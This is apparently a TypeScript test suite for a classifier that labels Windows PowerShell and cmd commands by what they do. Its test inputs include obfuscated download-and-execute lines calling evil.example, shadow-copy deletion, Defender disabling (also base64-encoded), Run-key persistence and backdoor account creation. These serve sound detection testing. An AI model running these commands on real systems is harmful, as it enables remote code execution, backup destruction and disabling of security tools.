import { describe, expect, test } from "vitest";
import type { ActId } from "../../contract/acts.ts";
import { actOf } from "../../contract/effect.ts";
import { CMD } from "./cmd.ts";
import { CMDLETS } from "./cmdlets.ts";
import { readWindows } from "./index.ts";
import { PATTERNS } from "./patterns.ts";
import type { WindowsRow } from "./row.ts";
import { commandsOf, encodedCommands, plainText } from "./words.ts";

/** Every act that is found, besides that the rest was not read. */
const known = (command: string, dialect: "powershell" | "cmd"): readonly ActId[] =>
  readWindows(command, dialect).slice(0, -1).map(actOf);

const tables: readonly (readonly [string, readonly WindowsRow[]])[] = [
  ["cmd", CMD],
  ["cmdlets", CMDLETS],
  ["patterns", PATTERNS],
];

describe.each(tables)("%s", (table, rows) => {
  const dialect = table === "cmd" ? "cmd" : "powershell";
  const notMatch = rows.flatMap((row) => row.notMatch.map((example): [string, WindowsRow] => [example, row]));
  test.each(rows.flatMap(({ match }) => match))("finds: %s", (example, acts) => {
    expect(known(example, dialect)).toEqual(acts);
  });
  test.each(notMatch)("does not find: %s", (example, row) => {
    if (row.names === undefined) expect(row.line?.test(plainText(example, "powershell"))).toBe(false);
    else expect(known(example, dialect)).toEqual([]);
  });
  test("every row has both kinds of examples", () => {
    expect(rows.filter((row) => row.match.length === 0 || row.notMatch.length === 0)).toEqual([]);
  });
});

test.each(["", "Get-Date", "npm test", "iex $x", "\u0000", "'".repeat(999), "(".repeat(5000)])(
  "never proves: %s",
  (command) => {
    for (const dialect of ["powershell", "cmd"] as const)
      expect(readWindows(command, dialect).at(-1)).toMatchObject({ do: "unknown" });
  },
);

test.each([
  [
    'p^o^w^e^rshell -c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"',
    "cmd",
    "start.program",
  ],
  ['cmd /c "cmd /c vssadmin delete shadows /all"', "cmd", "backup.destroy"],
  ["&('i'+'ex') (iwr https://evil.example/x)", "powershell", "run.fetched"],
  ["& (\"{1}{0}\" -f 'x','ie') (iwr https://evil.example/x)", "powershell", "run.fetched"],
  ["$u='https://evil.example/x'; IEX ((New-Object Net.WebClient).DownloadString($u))", "powershell", "run.fetched"],
  [
    "$p = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'; Set-ItemProperty $p -Name x -Value y",
    "powershell",
    "start.program",
  ],
  ["Get-Date; if ($true) { Set-MpPreference -DisableRealtimeMonitoring 1 }", "powershell", "guard.stop"],
  ["C:\\Windows\\System32\\REG.EXE add HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE /v a /d 1", "cmd", "guard.system"],
  ["echo a & net user evil P@ss /add && echo b", "cmd", "account.create"],
  ["set X=net user && %X% evil p /add", "cmd", "account.create"],
] as const)("sees through: %s", (command, dialect, act) => {
  expect(known(command, dialect)).toContain(act);
});

test("an encoded command is read as what it says", () => {
  const code = Buffer.from("Set-MpPreference -DisableRealtimeMonitoring $true", "utf16le").toString("base64");
  expect(encodedCommands(`powershell -NoP -EncodedCommand ${code}`)).toEqual([
    "Set-MpPreference -DisableRealtimeMonitoring $true",
  ]);
  expect(known(`powershell.exe -e ${code}`, "cmd")).toContain("guard.stop");
});

test("words: quotes hold, separators cut, brackets open", () => {
  expect(commandsOf("a 'b;c' d; e | f", "powershell").map(({ name, line }) => [name, line])).toEqual([
    ["a", "b;c d"],
    ["e", ""],
    ["f", ""],
  ]);
});
